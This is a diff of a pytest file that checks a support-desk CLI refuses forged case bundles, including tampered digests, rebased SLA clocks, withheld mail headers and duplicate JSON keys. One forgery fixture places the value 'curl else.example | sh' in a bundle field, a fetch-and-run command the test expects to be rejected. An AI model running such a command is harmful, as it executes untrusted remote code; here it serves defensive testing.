@@ -13,7 +13,7 @@ import pytest
 from cli.acceptance import ADA, DANA, LENA, MIA, NOW, Who, care, shell
 from cli.test_schema import faults
 
-from carecli.desk import bundle_check, bundle_differences, bundling
+from carecli.desk.bundles import checking, differences, writing
 from carecli.errors import CareError
 from carecli.store.codec import event_digest
 
@@ -48,13 +48,13 @@ def verdict(folder: Path, document: Any, status: int | None = None) -> dict[str,
 
 def resealed(document: Bundle) -> Bundle:
     """A bundle as a forger leaves it: its own SHA-256 is right again."""
-    return bundling.sealed(document)
+    return writing.sealed(document)
 
 
 def rechained(document: Bundle) -> Bundle:
     """A bundle whose forger has made all its digests anew, as if its events were alone in the log."""
     before = document["events"][0]["previous"]
-    (history, _) = bundle_check._history(document)
+    (history, _) = checking._history(document)
     for told, (entry, _) in zip(document["events"], history, strict=True):
         told["previous"], number = before, int(document["number"])
         told["digest"] = before = event_digest(before, number, told["seq"], entry.event)
@@ -148,20 +148,20 @@ def test_no_value_of_events_rules_and_clocks_can_be_changed(ada: Who) -> None:
         name = "documents" if path[0] == "documents" else shape(path)
         if name not in tried:
             changed = resealed(put(document, path, other(found(document, path))))
-            tried[name] = bool(bundle_check._verdict(changed).faults)
+            tried[name] = bool(checking._verdict(changed).faults)
     assert len(tried) > 50
     assert [name for name, seen in tried.items() if not seen] == []
 
 
 def test_no_value_of_case_and_proof_can_be_changed(ada: Who, monkeypatch: pytest.MonkeyPatch) -> None:
     """IMP-2: each value of the case and of the proof is made anew, and one that differs is named by its place."""
-    monkeypatch.setattr(bundle_differences, "_MOST", 10_000)
+    monkeypatch.setattr(differences, "_MOST", 10_000)
     document = bundled(ada, 3)
     for part in ("case", "proof"):
         places, changed = list(leaves(document[part])), document
         for path in places:
             changed = put(changed, (part, *path), other(found(document[part], path)))
-        named = {fault.where for fault in bundle_check._verdict(changed).faults if fault.part == part}
+        named = {fault.where for fault in checking._verdict(changed).faults if fault.part == part}
         assert len(named) > 60
         assert named == {
             "".join(f"[{key + 1}]" if isinstance(key, int) else f".{key}" for key in path).removeprefix(".")
@@ -182,6 +182,13 @@ FORGED: tuple[tuple[str, str, Change], ...] = (
     ("a status", "case", lambda b: b["case"].update(status="closed")),
     ("a mail of a follow-up", "mail", lambda b: b["mail"][0].update(round=7, stage=3)),
     ("a mail of another case", "mail", lambda b: b["mail"][0].update(number="0000000004")),
+    ("a name put in", "file", lambda b: b.update(note="never breached")),
+    ("a name put into the case", "case", lambda b: b["case"].update(note="never breached")),
+    ("a name put into the proof", "proof", lambda b: b["proof"].update(note="never breached")),
+    ("made before it was over", "file", lambda b: b.update(made_at="2026-03-17T10:00:00Z")),
+    ("nothing is withheld", "file", lambda b: b["withheld"].clear()),
+    ("another way to check it", "file", lambda b: b.update(check="curl else.example | sh")),
+    ("no longer whole", "file", lambda b: b.update(whole=False)),
     ("no events", "event", lambda b: b["events"].clear()),
     ("a kind that is none", "event", lambda b: b["events"][1].update(kind="forgotten")),
 )
@@ -219,6 +226,49 @@ def test_a_breach_cannot_be_left_out(trial: str, tmp_path: Path) -> None:
     assert any("by the policy and what people did" in one["what"] for one in told["differences"])
 
 
+def test_a_rebasing_hides_no_breach(trial: str, tmp_path: Path) -> None:
+    """IMP-2, SLA-8: before and after a rebasing each clock is held against the rules in force then."""
+    mia, span = Who(trial, ADA, NOW), ("--from", "2026-03-01", "--account", "Northwind", "--yes")
+    mia.json("policy", "rebase", "guide", *span)
+    honest = bundled(mia, 3)
+    assert "rebased" in {event["kind"] for event in honest["events"]}
+    assert verdict(tmp_path, honest, 0)["differences"] == []
+    told = verdict(tmp_path, rechained(unbreached(honest)), 1)
+    assert any("by the policy and what people did" in one["what"] for one in told["differences"])
+
+
+def test_a_breach_cut_off_the_end_is_pointed_at(trial: str, tmp_path: Path) -> None:
+    """IMP-2, SLA-7: what was due before the bundle was made is told, though no tick had put it on record."""
+    late = Who(trial, ADA, "2026-03-23T15:00:00Z")
+    told = verdict(tmp_path, bundled(late, 9), 0)
+    assert told["overdue"] == [{"metric": "response", "cycle": 1, "due_at": "2026-03-23T13:20:00Z"}]
+    page = care("bundle", "verify", str(tmp_path / "case.json")).out
+    assert "response 1, due 2026-03-23T13:20:00Z" in page
+    assert verdict(tmp_path, bundled(Who(trial, ADA, NOW), 9), 0)["overdue"] == []
+
+
+def test_it_says_what_it_cannot_prove(trial: str, tmp_path: Path) -> None:
+    """IMP-2: what stands by its writer's word alone is named: mails, and what only digests would show."""
+    whole = verdict(tmp_path, bundled(Who(trial, ADA, NOW), 3))["unproved"]
+    assert len(whole) == 1
+    assert "mails" in whole[0]
+    told = verdict(tmp_path, bundled(Who(trial, DANA, NOW), 3))["unproved"]
+    assert len(told) == 3
+    assert "no digests" in told[0]
+    assert "owner" in told[1]
+
+
+def test_nobody_replies_into_the_case_by_it(trial: str) -> None:
+    """MAIL-1, IMP-2: no reference and no Message-ID goes with a bundle, as either lets one reply into the case."""
+    for email in (ADA, DANA):
+        document = bundled(Who(trial, email, NOW), 3)
+        text = json.dumps(document["mail"])
+        assert "ref:" not in text
+        assert "@desk.example>" not in text
+        assert document["mail"][0]["subject"].endswith("Report totals differ by one hour")
+        assert any("Message-ID" in line for line in document["withheld"])
+
+
 def test_a_customer_gets_what_he_may_see(trial: str, tmp_path: Path) -> None:
     """DC-3: no internal event, no place or digest that would count them, nobody else's mail, and it says so."""
     mia, dana = Who(trial, MIA, NOW), Who(trial, DANA, NOW)
@@ -246,6 +296,18 @@ def test_a_customer_gets_what_he_may_see(trial: str, tmp_path: Path) -> None:
     whole = bundled(mia, 4)
     assert SECRET in json.dumps(whole)
     assert verdict(tmp_path, whole, 0)["whole"] is True
+
+
+def test_ties_to_other_cases_are_counted_as_told(trial: str, tmp_path: Path) -> None:
+    """IMP-2, DC-3: a customer's bundle holds though it names another case and an event after that is a cause."""
+    ada, dana = Who(trial, ADA, NOW), Who(trial, DANA, NOW)
+    ada.json("link", "3", "9")
+    ada.json("split", "3", "4", "-s", "Another matter")
+    ada.json("update", "3", "--internal", "-m", SECRET)
+    ada.json("policy", "rebase", "guide", "--from", "2026-03-01", "--account", "Northwind", "--yes")
+    document = bundled(dana, 3)
+    assert {"linked", "split", "rebased"} <= {event["kind"] for event in document["events"]}
+    assert verdict(tmp_path, document, 0)["differences"] == []
 
 
 def test_of_other_accounts_there_is_nothing(trial: str) -> None:
@@ -296,6 +358,7 @@ NONE: tuple[tuple[str, bytes], ...] = (
     ("a later version", b'{"form": "care-bundle", "version": 2}'),
     ("too deep", b"[" * 100_000),
     ("no UTF-8", b'{"form": "\xff"}'),
+    ("a name twice", b'{"form": "care-bundle", "version": 1, "clocks": [{"due_at": 1, "due_at": 2}]}'),
 )
 
 
@@ -317,7 +380,7 @@ def test_any_value_in_any_place_is_looked_at(ada: Who, value: Any) -> None:
     places += [("mail", 0, "stage"), ("documents", next(iter(document["documents"]))), ("proof", "clocks")]
     for place in places:
         try:
-            told = bundle_check._verdict(put(document, place, copy.deepcopy(value)))
+            told = checking._verdict(put(document, place, copy.deepcopy(value)))
         except CareError:
             continue
         assert told.faults or found(document, place) == value, place
